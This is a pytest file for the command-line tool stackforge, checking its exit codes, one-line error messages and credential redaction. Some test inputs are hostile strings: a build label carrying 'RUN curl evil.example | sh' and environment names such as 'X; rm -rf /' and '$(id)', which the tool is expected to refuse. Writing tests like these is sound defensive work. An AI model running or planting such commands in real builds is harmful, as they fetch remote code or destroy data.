"""Exit statuses a script can act on (issue #32, item 6 and parts of 14).

Environment faults (disk full, read-only file system, permission denied, any OS error) exit 3, bad input
(a bad option value, a record nested past any sense) exits 2, each as one line and never a traceback;
exit 1 keeps its meanings (something failed, or news). Commands that read results refuse a ``--results``
that is a file, or a folder that was asked for and is not there.
"""

from __future__ import annotations

import errno
import json
import os
from pathlib import Path

import pytest
from _build_helpers import small_cell
from click.testing import CliRunner, Result
from matrix_fixtures import CU131, record, seed_workspace

import stackforge.build
import stackforge.edges.docker_engine
import stackforge.probes.campaign
import stackforge.report.evidence
import stackforge.results.store
from stackforge.build import locking
from stackforge.build.locking import LockMode, obtain_lock
from stackforge.cli import cli
from stackforge.compose.dockerfile import ComposeOptions, lock_request
from stackforge.core.errors import EnvironmentFault, SpecError
from stackforge.edges import resolver


def _one_error_line(result: Result, code: int) -> str:
    """The run exited ``code`` with its last line the one error line, and no traceback; that line."""
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert lines and lines[-1].startswith("stackforge: error: "), result.output
    return lines[-1]


def _failing_write(errnum: int):
    def write(path, text, *args, **kwargs):
        raise OSError(errnum, os.strerror(errnum), str(path))
    return write


def _raising(exc: BaseException):
    def fail(*args, **kwargs):
        raise exc
    return fail


# --------------------------------------------------------------------------- environment faults: exit 3


def test_probe_into_a_read_only_results_folder_is_one_line_exit_3(monkeypatch, tmp_path):
    # chmod 0o555 does not stop root; the OS's answer on a read-only mount is simulated instead.
    monkeypatch.setattr(stackforge.results.store, "atomic_write_text", _failing_write(errno.EROFS))
    result = CliRunner().invoke(cli, ["probe", "--local", "--cuda", "13.1", "--results", str(tmp_path / "results")])
    line = _one_error_line(result, 3)
    assert "Read-only file system (EROFS)" in line and str(tmp_path / "results") in line
    assert "(hint: " in line and "writable" in line


def test_a_full_disk_while_probe_writes_records_is_exit_3_not_1(monkeypatch, tmp_path):
    def one_record(jobs, *, run_id, write, **kwargs):
        write(record(CU131, "flashinfer-jit", "pass", tier="gate", run_id=run_id))
        raise AssertionError("the write did not fail")
    monkeypatch.setattr(stackforge.probes.campaign, "run_probe_jobs", one_record)
    monkeypatch.setattr(stackforge.results.store, "write_record",
                        lambda run_dir, rec: _failing_write(errno.ENOSPC)(run_dir / rec.stack_id, ""))
    result = CliRunner().invoke(cli, ["probe", "--local", "--cuda", "13.1", "--results", str(tmp_path / "results")])
    line = _one_error_line(result, 3)
    assert "No space left on device (ENOSPC)" in line and "df -h" in line


def test_a_permission_fault_anywhere_is_exit_3_and_names_the_path(monkeypatch, tmp_path):
    seed_workspace(tmp_path)
    monkeypatch.setattr(stackforge.report.evidence, "load_results",
                        _raising(PermissionError(errno.EACCES, "Permission denied", "/srv/results/run-a")))
    result = CliRunner().invoke(cli, ["matrix", "--results", str(tmp_path / "results"),
                                      "--plan", str(tmp_path / "plan.json")])
    line = _one_error_line(result, 3)
    assert "/srv/results/run-a: Permission denied (EACCES)" in line


def test_a_full_disk_writing_out_is_exit_3(monkeypatch, tmp_path):
    seed_workspace(tmp_path)
    monkeypatch.setattr("stackforge.cli._evidence.atomic_write_text", _failing_write(errno.ENOSPC))
    result = CliRunner().invoke(cli, ["matrix", "--results", str(tmp_path / "results"), "--plan",
                                      str(tmp_path / "plan.json"), "--out", str(tmp_path / "m.md"), "--format", "md"])
    line = _one_error_line(result, 3)
    assert f"writing --out {tmp_path / 'm.md'}" in line and "ENOSPC" in line


@pytest.mark.parametrize("errnum, words", [(errno.ENOSPC, "No space left on device (ENOSPC)"),
                                           (errno.EROFS, "Read-only file system (EROFS)")])
def test_results_merge_onto_a_failing_disk_is_exit_3(monkeypatch, tmp_path, errnum, words):
    seed_workspace(tmp_path)
    monkeypatch.setattr(stackforge.results.store, "atomic_write_text", _failing_write(errnum))
    result = CliRunner().invoke(cli, ["results", "merge", str(tmp_path / "results" / "run-a"),
                                      "--out", str(tmp_path / "merged")])
    assert words in _one_error_line(result, 3)


def test_render_onto_a_full_disk_is_exit_3(monkeypatch, tmp_path):
    monkeypatch.setattr("stackforge.compose.dockerfile.atomic_write_text", _failing_write(errno.ENOSPC))
    result = CliRunner().invoke(cli, ["render", "--out", str(tmp_path / "ctx"), "--cuda", "13.1", "--no-lock",
                                      "--no-dependency-layers", "--ca-bundle", "none"])
    assert "No space left on device (ENOSPC)" in _one_error_line(result, 3)


def test_an_os_error_line_never_shows_credentials(monkeypatch, tmp_path):
    seed_workspace(tmp_path)
    monkeypatch.setattr(stackforge.report.evidence, "load_results", _raising(ConnectionRefusedError(
        errno.ECONNREFUSED, "refused by https://me:s3cret@mirror.example/simple")))
    result = CliRunner().invoke(cli, ["matrix", "--results", str(tmp_path / "results"),
                                      "--plan", str(tmp_path / "plan.json")])
    line = _one_error_line(result, 3)
    assert "s3cret" not in result.output and "https://mirror.example/simple" in line


def test_the_fault_carries_the_path_and_the_errno_text():
    fault = EnvironmentFault.from_os_error(OSError(errno.ENOSPC, "No space left on device", "/r/x.json"),
                                           doing="writing the run")
    assert fault.exit_code == 3 and fault.path == "/r/x.json"
    assert fault.reason == "No space left on device (ENOSPC)"
    assert fault.one_line().startswith("writing the run (/r/x.json): No space left on device (ENOSPC) (hint: ")


# --------------------------------------------------------------------------- bad input: exit 2


def test_a_record_nested_100000_deep_is_exit_2_naming_the_file(tmp_path):
    seed_workspace(tmp_path)
    deep = tmp_path / "results" / "run-a" / CU131 / "rtx-pro-6000-x8-pcie" / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    result = CliRunner().invoke(cli, ["matrix", "--results", str(tmp_path / "results"),
                                      "--plan", str(tmp_path / "plan.json")])
    line = _one_error_line(result, 2)
    assert str(deep) in line and "nested deeper than" in line


def test_a_record_nested_past_the_limit_but_not_python_s_is_refused_too(tmp_path):
    seed_workspace(tmp_path)
    path = tmp_path / "results" / "run-a" / CU131 / "rtx-pro-6000-x8-pcie" / "flashinfer-jit-runtime.json"
    data = json.loads(path.read_text())
    nested: object = 1
    for _ in range(500):
        nested = {"x": nested}
    data["outcome"]["metrics"] = nested
    path.write_text(json.dumps(data))
    result = CliRunner().invoke(cli, ["pick", "--results", str(tmp_path / "results"),
                                      "--plan", str(tmp_path / "plan.json")])
    line = _one_error_line(result, 2)
    assert str(path) in line


def test_a_recursion_error_anywhere_is_one_line_exit_2(monkeypatch, tmp_path):
    seed_workspace(tmp_path)

    def runaway(*args, **kwargs):
        return runaway()
    monkeypatch.setattr(stackforge.report.evidence, "load_results", runaway)
    result = CliRunner().invoke(cli, ["deadends", "--results", str(tmp_path / "results"),
                                      "--plan", str(tmp_path / "plan.json")])
    assert "nested too deeply" in _one_error_line(result, 2)


@pytest.mark.parametrize("command", ["probe", "build", "bench"])
@pytest.mark.parametrize("value", ["-5", "0", "nan", "inf"])
def test_a_timeout_that_is_not_a_positive_number_of_seconds_is_exit_2(monkeypatch, tmp_path, command, value):
    monkeypatch.chdir(tmp_path)      # a timeout let through would start a run here, not in the checkout
    result = CliRunner().invoke(cli, [command, "--timeout", value])
    assert result.exit_code == 2, result.output
    assert "Invalid value for '--timeout'" in result.output and "Traceback" not in result.output
    assert not any(tmp_path.iterdir())


def test_probe_refuses_no_parallel_jobs(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli, ["probe", "--local", "-j", "0"])
    assert result.exit_code == 2, result.output
    assert "Invalid value for" in result.output


def test_click_usage_errors_still_exit_2():
    result = CliRunner().invoke(cli, ["probe", "--no-such-option"])
    assert result.exit_code == 2 and "No such option" in result.output


@pytest.fixture
def no_build(monkeypatch):
    """The engine and the builder replaced: a test that gets this far has gone past the option checks."""
    def refuse(*args, **kwargs):
        raise AssertionError("build_stacks was reached")
    monkeypatch.setattr(stackforge.build, "build_stacks", refuse)
    _no_engine(monkeypatch)


def _no_engine(monkeypatch) -> None:
    monkeypatch.setattr(stackforge.edges.docker_engine, "connect", lambda: object())
    monkeypatch.setattr(stackforge.edges.docker_engine, "reap_orphans",
                        lambda client: stackforge.edges.docker_engine.Orphans((), ()))


@pytest.mark.parametrize("label", ["team=infra\nRUN curl evil.example | sh", "bad key=x", "k=a\rb"])
def test_build_refuses_a_label_that_is_not_one_line(no_build, tmp_path, label):
    result = CliRunner().invoke(cli, ["build", "--out", str(tmp_path), "--no-progress", "--label", label])
    line = _one_error_line(result, 2)
    assert "--label" in line and "one line" in line


@pytest.mark.parametrize("ref, shown", [
    ("user:token123@registry.example.com/team", "--push user:***@registry.example.com/team"),
    ("token123@registry.example.com/team", "--push ***@registry.example.com/team"),
    ("https://user:token123@registry.example.com/team", "--push https://user:***@registry.example.com/team"),
])
def test_build_refuses_a_push_with_credentials_without_echoing_them(no_build, tmp_path, ref, shown):
    result = CliRunner().invoke(cli, ["build", "--out", str(tmp_path), "--no-progress", "--push", ref])
    line = _one_error_line(result, 2)
    assert shown in line and "docker login" in line
    assert "token123" not in result.output


def test_build_refuses_a_push_that_is_no_registry_prefix_before_any_work(no_build, tmp_path):
    result = CliRunner().invoke(cli, ["build", "--out", str(tmp_path), "--no-progress", "--push", "Not A Ref"])
    assert "registry repository" in _one_error_line(result, 2)


RULE_WITH_ENV = """schema: 1
rules:
  - id: user-env-rule
    when:
      arch: {{in: ["12.0"]}}
    then:
      effect: requires
      requires: {{env: {{{name}: "1"}}}}
    reason: "a test rule"
    unwitnessed: "a test rule"
    sources:
      - {{ref: "a test", confidence: inferred}}
"""


@pytest.mark.parametrize("name", ['"X; rm -rf /"', '"$(id)"', '"1ABC"', '"A B"'])
def test_a_requires_env_name_with_shell_characters_is_refused(tmp_path, name):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "user.yaml").write_text(RULE_WITH_ENV.format(name=name))
    result = CliRunner().invoke(cli, ["--compat", str(tmp_path), "plan", "--cuda", "13.1"])
    line = _one_error_line(result, 2)
    assert "requires.env name" in line and "user.yaml:8" in line


def test_a_requires_env_with_a_plain_name_is_accepted(tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "user.yaml").write_text(RULE_WITH_ENV.format(name="NCCL_P2P_DISABLE"))
    result = CliRunner().invoke(cli, ["--compat", str(tmp_path), "plan", "--cuda", "13.1"])
    assert result.exit_code == 0, result.output


# --------------------------------------------------------------------------- a stack lock that is no lock: exit 2


def _lock_request():
    stack, derived = small_cell()
    return lock_request(stack, derived, ComposeOptions(wheelhouse=True), glibc="2.36", find_links=("/opt/wheels",))


@pytest.fixture
def no_resolver(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the resolver was called")
    monkeypatch.setattr(locking, "resolve_lock", refuse)


@pytest.mark.parametrize("mode", [LockMode.RESOLVE, LockMode.LOCKED])
def test_a_stack_lock_that_is_a_folder_is_refused_with_its_path(tmp_path, no_resolver, mode):
    request = _lock_request()
    path = locking.lock_path(tmp_path, request.stack_id)
    path.mkdir(parents=True)
    with pytest.raises(SpecError, match="a folder stands where the stack lock belongs") as raised:
        obtain_lock(request, mode, tmp_path, resolver.ResolverIndexes())
    assert str(path) in raised.value.one_line() and raised.value.exit_code == 2


def test_a_stack_lock_that_is_not_utf8_is_refused_with_its_path_and_line(tmp_path, no_resolver):
    request = _lock_request()
    path = locking.lock_path(tmp_path, request.stack_id)
    path.parent.mkdir(parents=True)
    path.write_bytes(b'lock-version = "1.0"\n\xff\xfe garbage\n')
    with pytest.raises(SpecError, match="not UTF-8") as raised:
        obtain_lock(request, LockMode.RESOLVE, tmp_path, resolver.ResolverIndexes())
    assert f"{path}:2:" in raised.value.one_line()


def test_build_with_a_stack_lock_that_is_a_folder_exits_2(monkeypatch, tmp_path, no_resolver):
    request = _lock_request()
    locking.lock_path(tmp_path, request.stack_id).mkdir(parents=True)

    def build_stacks(cells, options, *, client, progress):
        obtain_lock(request, options.lock, options.out_dir, resolver.ResolverIndexes())
        raise AssertionError("the lock was read")
    monkeypatch.setattr(stackforge.build, "build_stacks", build_stacks)
    _no_engine(monkeypatch)
    result = CliRunner().invoke(cli, ["build", "--out", str(tmp_path), "--no-progress", "--ca-bundle", "none"])
    line = _one_error_line(result, 2)
    assert str(locking.lock_path(tmp_path, request.stack_id)) in line


# --------------------------------------------------------------------------- --results on commands that read


READERS = [["matrix"], ["pick"], ["deadends"], ["upgrade", "--from-cuda", "13.0", "--to-cuda", "13.1"]]


@pytest.mark.parametrize("command", READERS)
def test_a_results_path_that_is_a_file_is_refused(tmp_path, command):
    (tmp_path / "results.txt").write_text("not a folder")
    result = CliRunner().invoke(cli, [*command, "--results", str(tmp_path / "results.txt")])
    line = _one_error_line(result, 2)
    assert f"--results {tmp_path / 'results.txt'} is a file" in line


@pytest.mark.parametrize("command", READERS)
def test_a_results_folder_asked_for_and_missing_is_refused(tmp_path, command):
    result = CliRunner().invoke(cli, [*command, "--results", str(tmp_path / "reslts")])
    line = _one_error_line(result, 2)
    assert f"no such results folder {tmp_path / 'reslts'}" in line
    assert "run `stackforge probe` first or drop --results" in line


def test_the_default_results_folder_missing_is_still_predictions_only(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli, ["matrix"])
    assert result.exit_code == 0, result.output
    assert "predictions only" in result.output


def test_a_default_results_path_that_is_a_file_is_refused(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    Path("results").write_text("")
    assert "is a file" in _one_error_line(CliRunner().invoke(cli, ["matrix"]), 2)
